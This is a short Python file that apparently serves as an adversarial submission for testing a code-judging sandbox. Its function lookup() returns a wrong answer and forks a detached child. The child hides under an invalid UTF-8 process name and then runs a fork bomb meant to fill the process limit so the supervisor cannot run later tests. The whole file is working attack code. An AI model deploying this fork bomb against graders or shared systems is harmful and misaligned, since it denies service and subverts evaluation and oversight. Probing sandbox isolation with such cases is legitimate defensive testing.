# problem: secret_lookup
# verdict: wrong_answer
# under-runsc: wrong_answer | memory_limit_exceeded | time_limit_exceeded
# attack: forks processes renamed to invalid UTF-8 that keep refilling the pids limit after the call returns a wrong value, so the supervisor cannot fork the next test
# max-seconds: 12
import ctypes
import os
import time


def lookup(key):
    if os.fork() == 0:
        os.setsid()
        ctypes.CDLL(None).prctl(15, b"\xff-ghost", 0, 0, 0)
        time.sleep(0.1)  # bomb once the call is over: the next tests are the target
        while True:
            try:
                if os.fork() == 0:
                    while True:
                        try:
                            os.fork()
                        except OSError:
                            time.sleep(0.001)
            except OSError:
                time.sleep(0.001)
    return "wrong"
